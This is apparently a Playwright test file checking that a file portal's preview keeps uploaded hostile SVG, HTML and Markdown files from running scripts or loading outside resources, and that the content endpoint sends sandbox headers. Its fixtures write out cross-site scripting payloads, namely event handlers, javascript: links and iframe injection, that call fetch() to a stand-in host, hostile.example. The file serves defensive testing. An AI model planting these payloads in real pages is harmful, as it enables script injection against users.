import { createFile, visit } from '../support/records.ts'
import { expect, type Page, test } from '../support/test.ts'

/** Code of a hostile file that runs leaves a trace: a title, a dialog, or a request to this host. */
const TRACE = 'https://hostile.example/'
const ATTACK = `document.title='hostile';top.document.title='hostile';fetch('${TRACE}fetch');alert('hostile')`

const SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40" onload="${ATTACK}">
  <script>${ATTACK}</script>
  <script href="${TRACE}script.js"/>
  <style>@import url(${TRACE}style.css);</style>
  <image href="${TRACE}image.png" onerror="${ATTACK}" width="9" height="9"/>
  <a xlink:href="javascript:${ATTACK}"><rect width="60" height="40"/></a>
  <animate attributeName="x" onbegin="${ATTACK}" dur="1s"/>
  <foreignObject width="60" height="40">
    <body xmlns="http://www.w3.org/1999/xhtml" onload="${ATTACK}"><iframe src="javascript:${ATTACK}"/><img src="x" onerror="${ATTACK}"/></body>
  </foreignObject>
</svg>`

const HTML = `<!doctype html><html><body onload="${ATTACK}">
<script>${ATTACK}</script><img src="${TRACE}image.png" onerror="${ATTACK}">
<iframe src="javascript:${ATTACK}"></iframe><a href="javascript:${ATTACK}">press</a></body></html>`

const MARKDOWN = `# Hostile

<script>${ATTACK}</script>

<img src=x onerror="${ATTACK}">

<iframe src="javascript:${ATTACK}"></iframe>

[press](javascript:${ATTACK}) [press](JaVaScRiPt:alert(1)) [press](data:text/html,<script>alert(1)</script>)
[press](vbscript:x) <javascript:alert(1)> [press](/logout) [press](//hostile.example/x)

![picture](${TRACE}image.png) ![picture](javascript:alert(1))
`

/** Watches a tab and all tabs that are opened from it. */
async function watch(page: Page) {
  const traces: string[] = []
  const context = page.context()
  const listen = (tab: Page) =>
    tab.on('dialog', async (dialog) => {
      traces.push(`dialog ${dialog.message()}`)
      await dialog.dismiss()
    })
  listen(page)
  context.on('page', listen)
  context.on('request', (request) => request.url().startsWith(TRACE) && traces.push(request.url()))
  await context.route(`${TRACE}**`, (route) => route.abort())
  // Media types of the blob addresses that the page makes: some of them would open as a page of this origin.
  await page.addInitScript(() => {
    const made: string[] = []
    Object.assign(window, { madeAddresses: made })
    const make = URL.createObjectURL
    URL.createObjectURL = (source) => {
      made.push(source instanceof Blob ? source.type : 'stream')
      return make(source)
    }
  })
  return {
    traces,
    pageAddresses: () =>
      page.evaluate(() => {
        const { madeAddresses } = window as unknown as { madeAddresses: string[] }
        return madeAddresses.filter((type) => type === '' || /html|xml|svg/.test(type))
      })
  }
}

/** Time in which injected code would run; there is no event to wait for when nothing happens. */
const pause = (page: Page) => page.waitForTimeout(1000)

const preview = (page: Page) => page.getByRole('region', { name: 'Content' })

test.describe('a hostile SVG', () => {
  test('runs nothing and loads nothing where it is shown', async ({ page, portal }) => {
    const { traces, pageAddresses } = await watch(page)
    const { id, mediaType } = await createFile(portal, 'hostile.svg', SVG)
    expect(mediaType).toBe('image/svg+xml')
    await visit(page, portal, `/file/${id}`)
    const picture = preview(page).getByRole('img')
    await expect(picture).toHaveAttribute('src', /^data:image\/svg\+xml,/)
    await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(60)
    await picture.click()
    await pause(page)
    await expect(page).toHaveTitle(/^hostile\.svg/)
    expect(traces).toEqual([])
    expect(await pageAddresses()).toEqual([])
    expect(await page.locator('main svg script, main svg foreignObject, main iframe').count()).toBe(0)
  })

  test('runs nothing and loads nothing where its preview is opened in a new tab', async ({ page, portal }) => {
    const { traces } = await watch(page)
    const { id } = await createFile(portal, 'hostile.svg', SVG)
    await visit(page, portal, `/file/${id}`)
    const address = await preview(page).getByRole('img').getAttribute('src')
    const tab = await page.context().newPage()
    await tab.goto(address!)
    await pause(tab)
    expect(await tab.evaluate(() => document.documentElement.tagName)).toBe('svg')
    expect(await tab.title()).not.toContain('hostile')
    expect(traces).toEqual([])
  })

  test.describe('opened by its own text', () => {
    // The code runs, and its request fails.
    test.use({ allowConsole: [/./] })

    test('does leave the traces that the other tests look for', async ({ page }) => {
      const { traces } = await watch(page)
      await page.goto(`data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}`)
      await expect.poll(() => traces.some((trace) => trace.startsWith('dialog'))).toBe(true)
      await expect.poll(() => traces.some((trace) => trace.startsWith(TRACE))).toBe(true)
    })
  })
})

test('a hostile HTML file is shown as its source, and has no address that could be opened', async ({
  page,
  portal
}) => {
  const { traces, pageAddresses } = await watch(page)
  const { id, mediaType } = await createFile(portal, 'hostile.html', HTML)
  expect(mediaType).toBe('text/html')
  await visit(page, portal, `/file/${id}`)
  await expect(preview(page).getByRole('textbox')).toContainText('<!doctype html>')
  const downloading = page.waitForEvent('download')
  await preview(page)
    .getByRole('button', { name: /^Download/ })
    .click()
  expect((await downloading).suggestedFilename()).toBe('hostile.html')
  await pause(page)
  await expect(page).toHaveTitle(/^hostile\.html/)
  expect(traces).toEqual([])
  expect(await pageAddresses()).toEqual([])
})

test('hostile Markdown is text: no HTML, no scripts’ addresses, no pictures from elsewhere', async ({
  page,
  portal
}) => {
  const { traces, pageAddresses } = await watch(page)
  const { id, mediaType } = await createFile(portal, 'hostile.md', MARKDOWN)
  expect(mediaType).toBe('text/markdown')
  await visit(page, portal, `/file/${id}`)
  const shown = preview(page)
  await expect(shown.getByRole('heading', { name: 'Hostile' })).toBeVisible()
  await expect(shown.getByText('press').first()).toBeVisible()
  await expect(shown.locator('a, img, iframe, script')).toHaveCount(0)
  await shown.getByText('press').first().click()
  await pause(page)
  await expect(page).toHaveTitle(/^hostile\.md/)
  expect(traces).toEqual([])
  expect(await pageAddresses()).toEqual([])
})

test.describe('the request for the bytes', () => {
  test.use({ allowConsole: [/status of 401|favicon/] })

  test('returns nothing without the session’s token, and nothing that could run', async ({ page, portal }) => {
    const { id } = await createFile(portal, 'hostile.html', HTML)
    const address = `${portal.origin}/api/files/${id}/content`
    expect((await page.goto(address))?.status()).toBe(401)
    const client = await portal.api('user')
    const { headers } = await client.fetch(`api/files/${id}/content`)
    expect(headers.get('content-disposition')).toMatch(/^attachment/)
    expect(headers.get('content-security-policy')).toContain('sandbox')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
  })
})
